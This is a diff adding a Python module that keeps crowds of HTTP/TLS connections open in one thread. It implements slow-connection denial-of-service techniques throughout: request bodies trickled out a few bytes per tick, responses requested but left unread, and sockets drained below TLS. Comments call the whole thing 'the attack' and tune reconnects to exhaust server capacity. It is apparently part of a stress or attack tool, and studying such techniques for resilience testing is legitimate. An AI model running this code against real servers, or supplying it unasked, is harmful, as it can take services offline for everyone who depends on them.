@@ -1,0 +1,139 @@
+# Many connections, each with a request or an answer that does not end. One thread and no busy loop: once a second each is given a little.
+import os, select, socket, time
+from wire import Client
+
+TICK = 1.0
+# A closed or refused one is opened again, but no more than so many in a tick: the attack is full use, not a flood of handshakes.
+REOPENED = 20
+
+
+class Crowd:
+    """Keeps `count` connections as `open_one(number)` makes them. `feed(slot)` is called once a tick for each."""
+
+    def __init__(self, attack, count, open_one, feed=None, listens=True):
+        self.attack, self.open_one, self.feed, self.listens = attack, open_one, feed, listens
+        self.slots = [None] * count
+
+    def fill(self, most):
+        for number, slot in enumerate(self.slots):
+            if slot or most == 0 or self.attack.is_over:
+                continue
+            most -= 1
+            try:
+                self.slots[number] = self.open_one(number)
+                self.attack.count("opened")
+            except OSError as error:
+                self.attack.count(type(error).__name__)
+
+    def open_ones(self):
+        return sum(1 for slot in self.slots if slot)
+
+    def run(self):
+        self.fill(len(self.slots))
+        self.attack.ready()
+        while not self.attack.is_over:
+            began = time.monotonic()
+            self.look()
+            if self.feed:
+                for number, slot in enumerate(self.slots):
+                    if slot:
+                        try:
+                            self.feed(slot)
+                        except (BlockingIOError, InterruptedError):
+                            pass
+                        except OSError:
+                            self.drop(number, "ended")
+            self.fill(REOPENED)
+            self.attack.note("held", self.open_ones())
+            self.attack.wait(max(0.05, TICK - (time.monotonic() - began)))
+
+    def drop(self, number, why):
+        self.attack.count(why)
+        self.slots[number].close()
+        self.slots[number] = None
+
+    def look(self):
+        """Finds out who was answered or hung up on."""
+        numbers = {}
+        poll = select.poll()
+        for number, slot in enumerate(self.slots):
+            if slot:
+                numbers[slot.fileno()] = number
+                poll.register(slot.fileno(), select.POLLRDHUP | (select.POLLIN if self.listens else 0))
+        for descriptor, events in poll.poll(0):
+            number = numbers[descriptor]
+            slot = self.slots[number]
+            if events & (select.POLLERR | select.POLLHUP | select.POLLNVAL) or (events & select.POLLRDHUP and not self.listens):
+                self.drop(number, "ended")
+                continue
+            try:
+                slot.settimeout(0)
+                answer = slot.recv(4096)
+                self.drop(number, answer[9:12].decode("latin-1") if answer else "ended")
+            except (BlockingIOError, InterruptedError):
+                pass
+            except OSError as error:
+                # TLS has something of its own to say, such as a session ticket.
+                if "WantRead" not in type(error).__name__:
+                    self.drop(number, "ended")
+
+
+def half_sent(attack, head, first, more):
+    """A request whose body stops after `first`; `more` bytes follow each tick."""
+
+    def open_one(number):
+        connection = attack.connect(number, timeout=5)
+        connection.sendall(head(number))
+        if first:
+            connection.settimeout(3)
+            view, sent = memoryview(first), 0
+            try:
+                while sent < len(first):
+                    sent += connection.send(view[sent : sent + 65536])
+            except TimeoutError:
+                # The server does not read: it holds what it wants to hold.
+                pass
+        connection.settimeout(0)
+        return connection
+
+    def feed(connection):
+        connection.settimeout(0)
+        try:
+            connection.send(more)
+        except OSError as error:
+            if "Want" not in type(error).__name__:
+                raise
+
+    return open_one, (feed if more else None)
+
+
+def unread(attack, head):
+    """An answer that is asked for, and not read beyond its beginning."""
+
+    def open_one(number):
+        connection = attack.connect(number, timeout=10, receive_buffer=4096)
+        connection.sendall(head(number))
+        connection.settimeout(2)
+        try:
+            status = connection.recv(64)[9:12].decode("latin-1")
+        except TimeoutError:
+            status = "silent"
+        if status not in ("200", "silent"):
+            attack.count(status)
+            connection.close()
+            raise ConnectionRefusedError(status)
+        return connection
+
+    return open_one
+
+
+def sip(byte_count):
+    """Takes some bytes below TLS each tick: they are not wanted, only taken."""
+
+    def feed(connection):
+        with socket.socket(fileno=os.dup(connection.fileno())) as raw:
+            raw.setblocking(False)
+            if not raw.recv(byte_count):
+                raise ConnectionError
+
+    return feed
